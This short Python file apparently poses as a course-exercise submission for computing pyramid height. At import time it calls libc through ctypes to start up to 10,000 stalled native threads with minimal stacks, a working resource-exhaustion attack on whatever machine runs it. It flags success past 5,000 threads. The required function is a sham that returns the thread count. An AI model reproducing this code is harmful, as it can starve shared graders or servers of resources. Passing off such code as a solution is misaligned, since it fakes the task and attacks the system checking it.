"""Starts threads past Python, with the smallest stacks there are, until the machine has no number left."""
# attack: week=03 exercise=pyramid
import ctypes

libc = ctypes.CDLL(None)
attributes = ctypes.create_string_buffer(64)
libc.pthread_attr_init(attributes)
libc.pthread_attr_setstacksize(attributes, ctypes.c_size_t(16 << 10))
thread = ctypes.c_ulong()
started = 0
while started < 10_000 and not libc.pthread_create(ctypes.byref(thread), attributes, libc.pause, None):
    started += 1
print("started", started)
if started > 5_000:
    print("SURPRISE", started)


def calculate_pyramid_height(number_of_blocks):
    return started
